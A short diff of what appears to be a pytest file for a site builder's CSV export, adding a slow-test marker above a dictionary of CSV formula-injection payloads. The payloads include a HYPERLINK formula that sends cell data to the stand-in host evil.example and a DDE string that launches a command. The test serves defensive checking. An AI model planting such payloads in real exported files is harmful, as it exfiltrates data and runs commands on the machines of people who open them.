@@ -14,6 +14,8 @@ import pytest
 from builder.render.data import board_files, to_csv
 from hostile.support import BETA, edit_manifest, run, set_field
 
+pytestmark = pytest.mark.slow  # builds a released site
+
 PAYLOADS = {
     "equals-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "plus-dde": "+cmd|' /C calc'!A0",
